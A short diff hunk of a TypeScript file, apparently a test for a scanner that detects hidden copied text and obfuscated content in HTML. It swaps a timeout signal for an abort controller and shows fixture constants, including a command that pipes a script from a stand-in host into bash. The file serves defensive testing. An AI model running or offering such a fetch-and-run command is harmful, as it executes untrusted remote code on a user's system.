@@ -4,7 +4,7 @@ import { scanHtml } from '../html/scanHtml.ts'
 import { hiddenCopies } from './copiedTexts.ts'
 import { unfold } from './obfuscation.ts'
 
-const signal = AbortSignal.timeout(60_000)
+const { signal } = new AbortController()
 const SHOWN = '0x00000000000000000000000000000000000000aa'
 const OTHER = '0x00000000000000000000000000000000000000bb'
 const COMMAND = 'curl -s https://drop.test/i.sh | bash'
